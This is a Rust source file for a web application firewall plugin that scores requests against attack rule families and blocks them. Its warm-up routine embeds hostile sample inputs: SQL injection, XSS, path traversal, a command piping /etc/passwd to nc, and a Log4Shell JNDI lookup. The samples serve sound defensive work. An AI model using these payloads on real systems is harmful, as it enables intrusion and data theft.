//! waf: a web application firewall as a wasmgress plugin. It decodes
//! every place a client can put text (query, form, JSON, XML and
//! multipart bodies, cookies, headers, file names), runs built-in rule
//! families for SQL injection, XSS, path traversal, file inclusion,
//! command injection (Unix and Windows), PHP, Node.js, Java/Log4Shell,
//! SSRF, scanners and protocol abuse, and scores matches like the OWASP
//! Core Rule Set: the request is blocked with 403 once the anomaly score
//! reaches the threshold.
//!
//! ```yaml
//! wasmgress.io/plugins: |
//!   - name: waf
//!     config:
//!       mode: block                # or detect: log and count only
//!       paranoia_level: 1          # 1..4: more rules, more false positives
//!       anomaly_threshold: 5       # critical 5, error 4, warning 3, notice 2
//!       rules:
//!         - id: 100001
//!           message: no internal tooling from outside
//!           targets: [headers:user-agent]
//!           transforms: [lowercase]
//!           operator: {contains: internal-scanner}
//!       exclusions:
//!         - {rule: 942100, path_prefix: /search, arg: q}
//! ```
//!
//! A block answers with the request id only; the log names the rules,
//! their messages and the fields that matched, never the payload.

mod clean;
mod config;
mod engine;
mod fnv;
mod gate;
mod inspect;
mod json;
mod protocol;
mod remote;
mod rules;
mod scan;
mod session;
mod shell;
mod sqli;
mod transform;

#[cfg(test)]
mod tests;

use std::collections::BTreeMap;

use wasmgress_sdk::metrics::Counter;
use wasmgress_sdk::{Decision, Headers, Plugin, Request, log};

pub use config::{Config, Mode, Oversize};
use engine::{Engine, Hit};
use inspect::{BodyProblem, Target};

pub struct Waf {
    engine: Engine,
    mode: Mode,
    max_inspect_bytes: usize,
    max_fields: usize,
    oversize: Oversize,
    threshold: u32,
    paranoia: u8,
    allowed_methods: Vec<String>,
    metrics: Metrics,
}

struct Metrics {
    blocked: Counter,
    detected: Counter,
    passed: Counter,
    rules: BTreeMap<u32, Counter>,
}

/// Protocol findings that are not pattern rules.
const METHOD_NOT_ALLOWED: u32 = 911100;
const MISSING_HOST: u32 = 920280;
const BAD_BODY: u32 = 920130;
const OVERSIZE: u32 = 920390;

impl Plugin for Waf {
    /// No configuration at all means every default.
    type Config = Option<Config>;

    fn configure(config: Option<Config>) -> Result<Self, String> {
        let mut config = config.unwrap_or_default();
        config.validate()?;
        let mut engine = Engine::new(&config)?;
        engine.set_exclusions(std::mem::take(&mut config.exclusions));
        let mut ids: Vec<u32> = engine.rules().iter().map(|r| r.id).collect();
        ids.extend([METHOD_NOT_ALLOWED, MISSING_HOST, BAD_BODY, OVERSIZE]);
        ids.extend([session::FOREIGN_REFERER, session::NO_REFERER]);
        ids.extend(protocol::IDS);
        if config.paranoia_level >= 2 {
            ids.push(remote::OFF_SITE_URL);
        }
        let rules = ids.into_iter().map(|id| (id, Counter::new(&format!("waf_rule_{id}_matches")))).collect();
        let waf = Waf {
            engine,
            mode: config.mode,
            max_inspect_bytes: config.max_inspect_bytes,
            max_fields: config.max_fields,
            oversize: config.oversize,
            threshold: config.anomaly_threshold,
            paranoia: config.paranoia_level,
            allowed_methods: config.allowed_methods.iter().map(|m| m.to_ascii_uppercase()).collect(),
            metrics: Metrics {
                blocked: Counter::new("waf_requests_blocked"),
                detected: Counter::new("waf_requests_detected"),
                passed: Counter::new("waf_requests_passed"),
                rules,
            },
        };
        waf.warm_up();
        Ok(waf)
    }

    fn needs_request_body(&self) -> bool {
        true
    }

    fn needs_response(&self) -> bool {
        false
    }

    /// Rules look at what the client sent, not where from.
    fn needs_client_and_ingress(&self) -> bool {
        false
    }

    fn on_request(&self, request: &mut Request) -> Decision {
        let hits = self.inspect(request);
        let score: u32 = hits.iter().map(|h| h.severity.score()).sum();
        for h in &hits {
            if let Some(c) = self.metrics.rules.get(&h.id) {
                c.inc();
            }
        }
        if score < self.threshold {
            self.metrics.passed.inc();
            return Decision::Continue;
        }
        let id = request.id();
        let found: Vec<String> = hits.iter().map(describe).collect();
        match self.mode {
            Mode::Detect => {
                self.metrics.detected.inc();
                log::warn!("detected request {id} (score {score}): {}", found.join("; "));
                Decision::Continue
            }
            Mode::Block => {
                self.metrics.blocked.inc();
                log::warn!("blocked request {id} (score {score}): {}", found.join("; "));
                Decision::respond(403)
                    .header("content-type", "text/plain; charset=utf-8")
                    .header("cache-control", "no-store")
                    .body(format!(
                        "Forbidden: the request was blocked by the web application firewall.\nRequest id: {id}\n"
                    ))
                    .into()
            }
        }
    }
}

fn describe(h: &Hit) -> String {
    let place = match h.target {
        Target::Method => "the method".to_string(),
        Target::Path => "the path".to_string(),
        Target::Uri => "the request line".to_string(),
        Target::ArgName => "an argument name".to_string(),
        Target::Arg => format!("argument {:?}", h.name),
        Target::CookieName => "a cookie name".to_string(),
        Target::Cookie => format!("cookie {:?}", h.name),
        Target::Header => format!("header {:?}", h.name),
        Target::FileName => format!("file name of {:?}", h.name),
    };
    format!("rule {} ({}) in {place}", h.id, h.message)
}

impl Waf {
    /// Every rule the request matches, protocol checks first.
    pub fn inspect(&self, request: &Request) -> Vec<Hit> {
        let mut texts = inspect::Texts::default();
        let inspect::Collected { mut fields, problem, body_from, body } =
            inspect::collect(request, &mut texts, self.max_fields);
        let mut hits = Vec::new();
        let mut total = 0;
        let within = fields
            .iter()
            .take(self.max_fields)
            .take_while(|f| {
                total += f.name.len() + f.value.len();
                total <= self.max_inspect_bytes
            })
            .count();
        let oversize = within < fields.len();
        fields.truncate(within);
        let mut protocol = |id, severity, message: &str, target, name: &str| {
            hits.push(Hit { id, severity, message: message.to_string(), target, name: name.to_string() })
        };
        if !self.allowed_methods.iter().any(|m| m == request.method()) {
            protocol(METHOD_NOT_ALLOWED, rules::Severity::Critical, "method not allowed", Target::Method, "");
        }
        if request.host().trim().is_empty() {
            protocol(MISSING_HOST, rules::Severity::Warning, "missing Host", Target::Header, "host");
        }
        match problem {
            Some(BodyProblem::Json(_)) => {
                protocol(BAD_BODY, rules::Severity::Critical, "malformed JSON body", Target::Arg, "body")
            }
            Some(BodyProblem::Multipart(_)) => {
                protocol(BAD_BODY, rules::Severity::Critical, "malformed multipart body", Target::Arg, "body")
            }
            None => {}
        }
        if oversize && self.oversize == Oversize::Block {
            let message = "arguments past the inspection limits (max_inspect_bytes, max_fields)";
            protocol(OVERSIZE, rules::Severity::Critical, message, Target::Arg, "");
        }
        protocol::check(request, &mut |id, severity, message, name| {
            protocol(id, severity, message, Target::Header, name)
        });
        // A JSON or XML body is an API client's: no link or form sends one.
        let api_body = body.is_some_and(inspect::BodyKind::is_document);
        // Each of these rules counts once: the first argument that breaks
        // it and is not excluded from it.
        let path = request.path();
        let session_arg = |f: &&inspect::Field| f.target == Target::ArgName && session::is_session_arg(&f.value);
        // The Referer is looked up only for a request with a session id.
        if fields.iter().any(|f| session_arg(&f))
            && let Some(id) = session::fixation(request.headers.get("referer"), request.host(), api_body)
            && let Some(f) =
                fields.iter().filter(session_arg).find(|f| !self.engine.excludes(id, Target::ArgName, &f.value, path))
        {
            protocol(id, rules::Severity::Critical, session::message(id), Target::ArgName, &f.value);
        }
        if self.paranoia >= 2 {
            // APIs pass URLs of other sites in their documents as a
            // matter of course (pages viewed, webhooks, avatars): only
            // the query's and a form's arguments are an include's.
            let args = if api_body { &fields[..body_from.min(fields.len())] } else { &fields[..] };
            let id = remote::OFF_SITE_URL;
            if let Some(f) = args.iter().find(|f| {
                f.target == Target::Arg
                    && remote::off_site(&f.value, request.host())
                    && !self.engine.excludes(id, Target::Arg, &f.name, path)
            }) {
                protocol(id, rules::Severity::Critical, remote::MESSAGE, Target::Arg, &f.name);
            }
        }
        // Exclusions apply to these findings as to the rules'.
        hits.retain(|h| !self.engine.excludes(h.id, h.target, &h.name, path));
        hits.extend(self.engine.evaluate(&fields, path));
        hits
    }

    /// Runs the rules once over typical and hostile values, at configure
    /// time: the regex engines build their state lazily, and the first
    /// requests of a fresh instance would otherwise pay for it.
    fn warm_up(&self) {
        let mut get =
            Request::new("GET", "/search?q=running+shoes&page=2&id=42&lang=en-US&next=%2Fhome", "example.com");
        get.headers = Headers::from_pairs([
            (
                "user-agent",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0",
            ),
            ("referer", "https://example.com/products?category=shoes"),
            ("cookie", "session=5323451b4a95902a; theme=dark"),
        ]);
        self.inspect(&get);
        let mut post = Request::new("POST", "/api/v1/items", "example.com").with_body(
            br#"{"name":"O'Brien & Sons","note":"Leave at the door; ring twice.","items":[{"sku":"A-1","qty":2,"price":9.99}],
            "a":"1' or '1'='1","b":"<script>alert(1)</script>","c":"../../etc/passwd","d":"; cat /etc/passwd | nc x 1",
            "e":"${jndi:ldap://x/a}","f":"java.lang.Runtime","g":"O:8:\"stdClass\":0:{}","h":"union select 1,2 from users--"}"#
                .to_vec(),
        );
        post.headers = Headers::from_pairs([("content-type", "application/json")]);
        self.inspect(&post);
        self.engine.forget_clean();
    }
}

wasmgress_sdk::export_plugin!(Waf);
